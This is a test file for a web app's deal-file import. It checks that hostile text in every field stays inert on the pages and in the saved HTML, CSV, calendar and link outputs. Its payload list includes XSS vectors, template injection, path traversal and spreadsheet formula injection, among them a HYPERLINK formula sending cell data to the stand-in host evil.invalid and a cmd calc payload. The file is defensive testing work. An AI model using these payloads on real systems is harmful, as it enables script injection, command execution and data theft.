// A deal file made by an attacker: whatever stands in it stays text, on every page and in every file that
// comes out of it; it does not hang the page, and the page's policy is what it was.
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { start } from './harness.mjs';
import { PAGES } from './visitor.mjs';

const page = await start();
const disk = mkdtempSync(join(tmpdir(), 'outbound-check-hostile-'));
after(async () => {
  await page.quit();
  rmSync(disk, { recursive: true, force: true });
});

/** Each would set `hit` if it ran, or do something a reader or a spreadsheet should not. */
const TEXTS = [
  '<img src=x onerror=top.hit=1>"\'></td></table><script>top.hit=2</script>',
  '"><svg onload=top.hit=3><iframe srcdoc="<script>top.hit=4</script>">',
  '</title></style></textarea><script>top.hit=5</script><!--',
  'javascript:top.hit=6 [x](javascript:top.hit=7) ![x](x"onerror="top.hit=8)',
  '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
  '+1+cmd|\' /C calc\'!A0 @SUM(1) -2',
  '{ $x } {{constructor.constructor("top.hit=9")()}} ${top.hit=10} __proto__ 10^25 ../../x',
];

/** The deal with everything in it, and in each of its texts one of ours. */
function hostile() {
  let next = 0;
  const free = ['name', 'investor', 'target', 'note', 'source'];
  const deal = JSON.parse(readFileSync(new URL('../../crates/outbound-deal/tests/deal/deal-version-1.json', import.meta.url), 'utf8'), (key, value) =>
    typeof value === 'string' && free.includes(key) ? TEXTS[next++ % TEXTS.length] : value);
  deal.answers.us_citizen = { answer: 'no', note: TEXTS.join('\n'), evidence: { source: TEXTS[0] } };
  deal.diligence = { databases: { note: TEXTS.join('\n') } };
  deal.systems.push({ remark: { note: TEXTS[2] }, training: { stages: [{ method: { chip_time: { chips: 9, hours: 9, accelerator: TEXTS[1] } } }] } });
  assert.ok(next >= 6, `${next} texts`);
  return JSON.stringify(deal);
}
const file = (name, content) => {
  const path = join(disk, name);
  writeFileSync(path, content);
  return path;
};
const go = async (language, name) => {
  await page.driver.executeScript('location.hash = arguments[0]', `#/${language}/${name}`);
  await page.until(`${name} stands in ${language}`, async () =>
    (await page.one('html').getAttribute('lang')) === language && (await page.driver.executeScript('return location.hash')) === `#/${language}/${name}` && await page.count('main h1'));
};
const hit = () => page.driver.executeScript('return globalThis.hit ?? null');
const policies = () => page.driver.executeScript(`return [...document.querySelectorAll('meta[http-equiv]')].map((meta) => meta.content)`);
/** Elements and attributes that no page of ours has. */
const strange = () => page.driver.executeScript(`
  const all = [...document.querySelectorAll('#app img, #app script, #app iframe, #app object, #app form:not(.group[method="dialog"]), #app style, #app base, #app link, #app meta')];
  for (const one of document.querySelectorAll('#app *')) for (const { name, value } of one.attributes) if (/^on|^style$|^srcdoc$/.test(name) || /^\\s*javascript:/i.test(value) && name === 'href') all.push(one);
  return all.map((one) => one.outerHTML.slice(0, 200));`);
const saved = async (name) => {
  const address = await page.one(`a[download="${name}"]`).getAttribute('href');
  return decodeURIComponent(address.slice(address.indexOf(',') + 1));
};

describe('hostile texts in every field', () => {
  let before_;
  before(async () => {
    await page.open({ path: '#/en/deals' });
    before_ = await policies();
    await (await page.one('#field-files')).sendKeys(file('hostile.json', hostile()));
    await page.until('it is open', async () => (await page.count('.deal')) === 2);
  });

  test('stay text on every page in both languages', async () => {
    for (const language of ['en', 'de']) {
      for (const name of PAGES) {
        await go(language, name);
        await page.unfold();
        assert.deepEqual(await strange(), [], `${language} ${name}`);
        assert.equal(await hit(), null, `${language} ${name}`);
      }
      await go(language, 'deals');
      assert.ok((await page.text('.deal[aria-current] h3')).includes(TEXTS[0].slice(0, 20)));
    }
    assert.deepEqual(await policies(), before_, 'its policy is what it was');
    await page.quiet();
  });

  test('run nothing in the memo saved as a page and opened from disk, even without its policy', async () => {
    for (const language of ['en', 'de']) {
      await go(language, 'memo');
      await page.unfold();
      const memo = await saved('memo.html');
      assert.ok(memo.includes('&lt;img src=x onerror=top.hit=1&gt;'));
      const bare = memo.replace(/<meta http-equiv[^>]*>/, '');
      assert.notEqual(bare, memo);
      const control = bare.replace('</body>', `<p>${TEXTS[0]}</body>`);
      const home = await page.driver.getWindowHandle();
      for (const [name, content, expected] of [['memo.html', memo, null], ['bare.html', bare, null], ['control.html', control, 'some']]) {
        await page.driver.switchTo().newWindow('tab');
        await page.driver.get(pathToFileURL(file(name, content)).href);
        await new Promise((done) => setTimeout(done, 150));
        const found = await page.driver.executeScript(`return [globalThis.hit ?? null, document.querySelectorAll('img, script, svg, iframe, [onload], [onerror]').length, getComputedStyle(document.body).maxWidth]`);
        if (expected) assert.ok(found[0] > 0 && found[1] > 0, `${name}: an unescaped text would be noticed`);
        else assert.deepEqual(found.slice(0, 2), [null, 0], name);
        assert.notEqual(found[2], 'none', `${name} has its style`);
        await page.driver.close();
        await page.driver.switchTo().window(home);
      }
      await page.console(); // the control's picture that is none
    }
  });

  test('make no formula of any cell, no line of a calendar, no name of a file', async () => {
    await go('en', 'compute');
    await page.unfold();
    const tables = await page.driver.executeScript('return [...document.querySelectorAll(\'a[download$=".csv"]\')].map((link) => link.download)');
    assert.ok(tables.length >= 2);
    for (const name of tables) {
      const table = await saved(name);
      assert.ok(table.startsWith('\uFEFF'), 'a spreadsheet takes its letters for what they are');
      const cells = table.slice(1).split('\n').flatMap((line) => line.split(','));
      assert.ok(cells.length > 10);
      for (const cell of cells) assert.match(cell, /^([a-z]\w*|-?\d[\d.e-]*|inf)?$/, name);
    }
    await go('en', 'result');
    const calendar = await saved('outbound-check.ics');
    const lines = calendar.replaceAll('\r\n ', '').split('\r\n');
    assert.ok(lines.length > 8);
    for (const line of lines) assert.match(line, /^(BEGIN|END|VERSION|PRODID|UID|DTSTAMP|DTSTART|SUMMARY|DESCRIPTION|TRANSP|ACTION|TRIGGER|$)/);
    await go('en', 'deals');
    for (const link of await page.all('a[download]')) assert.match(await link.getAttribute('download'), /^[\w-]+\.\w+$/);
    await page.quiet();
  });

  test('and no link holds any of them', async () => {
    await go('en', 'deals');
    await (await page.byLabel('Make a link')).click();
    const link = await page.one('#field-link').getAttribute('value');
    const plain = Buffer.from(link.split('.').at(-1), 'base64url').toString();
    for (const text of TEXTS) for (const part of [link, plain]) assert.ok(!part.includes(text.slice(0, 12)), text);
  });
});
